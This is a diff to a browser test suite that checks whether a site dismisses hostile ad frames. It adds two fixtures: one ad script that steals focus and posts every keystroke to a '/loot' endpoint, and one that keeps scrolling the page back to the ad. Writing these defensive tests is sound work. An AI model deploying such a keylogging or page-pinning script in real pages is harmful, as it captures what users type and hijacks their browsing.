@@ -18,6 +18,14 @@ const PATIENCE_MS = 300_000
 const DESKTOP = { width: 1280, height: 800 }
 const PHONE = { width: 360, height: 780 }
 
+const FOCUS_AD = `<!doctype html><input id="field"><script>
+  setInterval(() => { window.focus(); field.focus() }, 20)
+  addEventListener('keydown', ({ key }) => void fetch('/loot', { method: 'POST', mode: 'no-cors', body: '|' + key }), true)
+</script>`
+const PINNING_AD = `<!doctype html><p>Ad</p><script>
+  setInterval(() => document.body.scrollIntoView({ block: 'center' }), 60)
+</script>`
+
 let site: AdSite
 let browser: Browser
 /** Every address that a page has asked for. */
@@ -83,6 +91,57 @@ test('such an advertisement would hear what is typed, were it not taken away', a
       .poll(() => site.heard.some((line) => /\|z/.test(line)), { timeout: 2_000 })
       .toBe(true)
   }).toPass()
+  await page.close()
+})
+
+test('frames that take the focus from each other hear next to nothing', async () => {
+  site.show(() => FOCUS_AD)
+  const page = await openPage(DESKTOP)
+  await page.goto(site.origin + '/tools/loan-calculator')
+  await expect(page.locator('astro-island[ssr]')).toHaveCount(0)
+  const frames = page.locator('[data-ad] iframe')
+  for (const size of ['inline', 'banner'] as const) await seeFrame(page, size)
+  await page.locator('h1').click()
+  await expect(frames).toHaveCount(0)
+  site.heard.length = 0
+  await page.keyboard.type('x'.repeat(25), { delay: 60 })
+  await page.keyboard.press('Control+k')
+  await page.keyboard.type('canary query', { delay: 60 })
+  await page.waitForTimeout(500)
+  expect(site.heard.filter((line) => /\|./.test(line))).toEqual([])
+  await page.close()
+})
+
+test('a frame that scrolls the page to itself is dismissed', async () => {
+  site.show((size) => (size === 'inline' ? PINNING_AD : '<!doctype html><title>Empty</title>'))
+  const page = await openPage(DESKTOP)
+  await page.goto(site.origin + '/tools/loan-calculator')
+  await expect(page.locator('astro-island[ssr]')).toHaveCount(0)
+  await page.mouse.move(40, 300)
+  const frame = page.locator('[data-ad=inline] iframe')
+  await expect(async () => {
+    await page.mouse.wheel(0, 300)
+    await expect(frame).toHaveCount(0, { timeout: 500 })
+  }).toPass()
+  const before = await page.evaluate(() => scrollY)
+  await page.mouse.wheel(0, 200)
+  await page.waitForTimeout(500)
+  const after = await page.evaluate(() => scrollY)
+  expect(after).toBeGreaterThan(before)
+  await page.close()
+})
+
+test('such a frame would pin the page', async () => {
+  site.show(() => PINNING_AD)
+  const page = await browser.newPage({ viewport: DESKTOP })
+  await page.setContent(
+    `<div style="height: 1500px"></div><iframe sandbox="allow-scripts" src="${site.adOrigin}/slot?size=inline"></iframe><div style="height: 3000px"></div>`,
+  )
+  await expect.poll(() => page.evaluate(() => scrollY)).toBeGreaterThan(500)
+  const pinned = await page.evaluate(() => scrollY)
+  await page.mouse.wheel(0, 1000)
+  await page.waitForTimeout(500)
+  expect(await page.evaluate(() => scrollY)).toBe(pinned)
   await page.close()
 })
 
